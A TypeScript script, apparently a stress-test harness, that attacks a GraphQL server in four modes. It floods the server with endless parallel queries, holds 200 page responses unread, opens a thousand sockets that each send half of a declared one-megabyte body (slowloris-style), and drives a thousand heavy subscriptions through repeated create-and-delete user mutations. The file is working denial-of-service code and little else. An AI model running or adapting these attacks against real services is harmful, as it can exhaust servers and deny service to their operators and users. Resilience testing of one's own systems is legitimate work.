import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { createClient } from 'graphql-ws';
import WebSocket from 'ws';

// Attacks in a way that it is told until it is ended; says 'attacking' when it has begun, and at its end what it was answered.

export type AttackKind = 'query' | 'page' | 'half' | 'subscriptions';

export interface AttackOptions {
  kind: AttackKind;
  url: string;
  key: string;
  /** RANDOM in it is another number each time. */
  query: string;
}

const { kind, url, key, query } = JSON.parse(process.argv[2] ?? '') as AttackOptions;
const connections = 50;
const agent = new Agent({ keepAlive: true, maxSockets: connections });
const statuses = new Map<number | string, number>();
let count = 0;

const note = (status: number | string) => void statuses.set(status, (statuses.get(status) ?? 0) + 1);

function post(text: string): Promise<string> {
  const body = JSON.stringify({ query: text.replaceAll('RANDOM', String(count++)) });
  const headers = {
    'content-type': 'application/json',
    authorization: `Bearer ${key}`,
    'content-length': Buffer.byteLength(body),
  };
  return new Promise((resolve) => {
    const sent = request(`${url}/graphql`, { method: 'POST', agent, headers }, (response) => {
      note(response.statusCode ?? 0);
      let answer = '';
      response.on('data', (chunk: Buffer) => {
        if (answer.length < 1_000) answer += chunk.toString('latin1');
      });
      response.once('close', () => resolve(answer));
    });
    sent.once('error', () => resolve(''));
    sent.end(body);
  });
}

async function forEver(act: () => Promise<unknown>): Promise<void> {
  for (;;) await act();
}

/** Pages that are asked for and never read, two hundred at a time. */
function leavePagesUnread(): void {
  const reading = new Agent({ maxSockets: 200 });
  const ask = (path: string) => {
    const sent = request(`${url}${path}`, { agent: reading, headers: { accept: 'text/html' } }, (response) => {
      note(response.statusCode ?? 0);
      response.pause();
      setTimeout(() => sent.destroy(), 1_000);
    });
    sent.once('error', () => {});
    sent.once('close', () => ask(path));
    sent.end();
  };
  for (let n = 0; n < 200; n++) ask(n % 2 === 0 ? '/graphql' : '/graphql/graphiql/graphiql.js');
}

/** Bodies of which a half is sent, a thousand at a time, each of them begun anew when it is ended. */
function sendHalves(): void {
  const { hostname, port } = new URL(url);
  const open = () => {
    const socket = connect(Number(port), hostname);
    socket.write(
      `POST /graphql HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"query":"${'x'.repeat(1_000)}`,
    );
    socket.once('data', (data) => note(data.toString('latin1').slice(9, 12)));
    socket.on('error', () => {});
    socket.once('close', () => setTimeout(open, 100));
  };
  for (let n = 0; n < 1_000; n++) open();
}

/** A thousand subscriptions, each to a document of its own, and events for them as fast as they are made. */
async function subscribeAndEmit(): Promise<void> {
  const sockets = Array.from({ length: 10 }, () =>
    createClient({
      url: `${url.replace('http', 'ws')}/graphql`,
      webSocketImpl: WebSocket,
      lazy: false,
      retryAttempts: 100,
      connectionParams: { authorization: `Bearer ${key}` },
      onNonLazyError: () => {},
    }),
  );
  for (let n = 0; n < 1_000; n++) {
    const text = `subscription { events { a${n}: id ${Array.from({ length: 40 }, (_, i) => `b${i}: occurredAt`).join(' ')} } }`;
    sockets[n % sockets.length]?.subscribe(
      { query: text },
      { next: ({ errors }) => note(errors ? 'refused' : 'event'), error: () => note('refused'), complete: () => {} },
    );
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  await Promise.all(Array.from({ length: 10 }, () => forEver(emit)));
}

/** A user that is erased again is an event. */
async function emit(): Promise<void> {
  const text = await post('mutation { createUser(input: {}) { ... on CreateUserPayload { user { id } } } }');
  const [id] = /usr_\w+/.exec(text) ?? [];
  if (id) await post(`mutation { deleteUser(id: "${id}") { __typename } }`);
  else await new Promise((resolve) => setTimeout(resolve, 100));
}

process.on('SIGINT', () => {
  process.stdout.write(`${JSON.stringify(Object.fromEntries(statuses))}\n`, () => process.exit(0));
});
setTimeout(() => process.stdout.write('attacking\n'), 500);
const attacks: Record<AttackKind, () => void | Promise<void>> = {
  query: async () => void (await Promise.all(Array.from({ length: connections }, () => forEver(() => post(query))))),
  page: leavePagesUnread,
  half: sendHalves,
  subscriptions: subscribeAndEmit,
};
await attacks[kind]();
